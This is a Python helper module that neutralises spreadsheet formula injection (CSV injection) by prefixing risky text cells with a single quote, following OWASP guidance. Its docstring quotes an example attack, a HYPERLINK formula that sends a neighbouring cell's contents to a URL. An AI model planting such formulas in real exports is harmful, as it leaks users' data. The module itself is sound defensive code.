"""Spreadsheet safety: text that a spreadsheet program would run as a formula is neutralised.

Excel, LibreOffice Calc and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula (a tab or carriage return in front is skipped by some of them), so a measure
titled ``=HYPERLINK("http://…?x="&A1,"klick")`` would become a live link that sends the
neighbouring cell away ("CSV injection", OWASP). Following the OWASP guidance, such *text* is
prefixed with a single quote ``'``; numbers, dates and booleans are values, never formulas, and
pass unchanged — a negative amount stays the number -12.5.

Every spreadsheet and CSV the product writes goes through :func:`safe_cell` (open data,
report workbooks, later exports). Pure Python: every app may import it.
"""

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(text: str) -> str:
    """The text, with a leading ``'`` if a spreadsheet program could read it as a formula."""
    return "'" + text if text.startswith(FORMULA_LEADS) else text


def safe_cell(value):
    """A cell value for a spreadsheet or CSV: text is neutralised, anything else is unchanged."""
    return safe_text(value) if isinstance(value, str) else value
